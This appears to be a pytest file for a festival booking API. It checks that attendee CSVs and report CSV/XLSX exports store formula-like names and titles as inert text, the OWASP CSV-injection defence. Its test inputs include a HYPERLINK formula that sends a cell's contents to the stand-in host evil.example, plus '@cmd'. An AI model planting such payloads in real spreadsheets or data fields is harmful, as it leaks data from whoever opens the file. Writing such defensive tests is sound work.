"""Formulas typed into names and titles are stored as text, and every spreadsheet we write keeps
them as text: CSV cells that would start a formula get a leading quote (OWASP: CSV injection),
XLSX cells are strings (never formulas) marked quotePrefix."""
import csv
import io
import zipfile

from openpyxl import load_workbook

from app.database import db
from reports.build import build_report

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1")
STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def formula_world(client, world):
    """A visitor, a party member, a session and a booth, each named with a formula."""
    base = f"/api/v1/festivals/{world.slug}"
    visitor = client.post(f"{base}/passes", json={
        "name": FORMULAS[0], "email": "formula@example.org", "age_group": "adult", "consent": True,
        "party": [{"name": FORMULAS[3], "age_group": "child"}],
    })
    assert visitor.status_code == 201, visitor.get_json()
    booked = client.post(f"/api/v1/passes/{visitor.get_json()['manage_token']}/bookings",
                         json={"session_id": world.ids["workshop"], "seats": 1})
    assert booked.status_code == 201, booked.get_json()
    session = client.patch(f"/api/v1/sessions/{world.ids['talk']}", headers=world.admin,
                           json={"title_th": FORMULAS[1], "title_en": FORMULAS[2]})
    assert session.status_code == 200 and session.get_json()["title_th"] == FORMULAS[1]
    booth = client.patch(f"/api/v1/booths/{world.ids['booth']}", headers=world.admin,
                         json={"name_th": FORMULAS[4], "name_en": FORMULAS[0], "exhibitor": FORMULAS[3]})
    assert booth.status_code == 200 and booth.get_json()["name_en"] == FORMULAS[0]


def test_attendee_csvs_keep_formulas_as_text(client, world):
    formula_world(client, world)
    for path in (f"/api/v1/festivals/{world.slug}/attendees.csv", f"/api/v1/sessions/{world.ids['workshop']}/attendees.csv"):
        answer = client.get(path, headers=world.admin)
        assert answer.status_code == 200 and answer.mimetype == "text/csv"
        cells = csv_cells(answer.get_data(as_text=True))
        assert "'" + FORMULAS[0] in cells
        assert any(cell.startswith("'" + FORMULAS[3]) for cell in cells)  # the party column: "@cmd (child)"
        assert not [cell for cell in cells if cell.startswith(STARTS)]


def test_report_files_keep_formulas_as_text(app, client, world):
    formula_world(client, world)
    requested = client.post(f"/api/v1/festivals/{world.slug}/reports", headers=world.admin,
                            json={"formats": ["csv", "xlsx"], "locale": "en"})
    assert requested.status_code == 202
    report_id = requested.get_json()["id"]
    with app.app_context():
        build_report(report_id)
        db.session.remove()
    assert client.get(f"/api/v1/reports/{report_id}", headers=world.admin).get_json()["status"] == "finished"

    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/api/v1/reports/{report_id}/files/csv", headers=world.admin).data))
    seen = []
    for name in archive.namelist():
        cells = csv_cells(archive.read(name).decode("utf-8"))
        assert not [cell for cell in cells if cell.startswith(STARTS)], name
        seen.extend(cells)
    assert "'" + FORMULAS[1] in seen and "'" + FORMULAS[2] in seen  # the session's titles
    assert "'" + FORMULAS[0] in seen  # the booth's English name

    book = load_workbook(io.BytesIO(client.get(f"/api/v1/reports/{report_id}/files/xlsx", headers=world.admin).data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found.append(cell.value)
    assert FORMULAS[0] in found and FORMULAS[2] in found
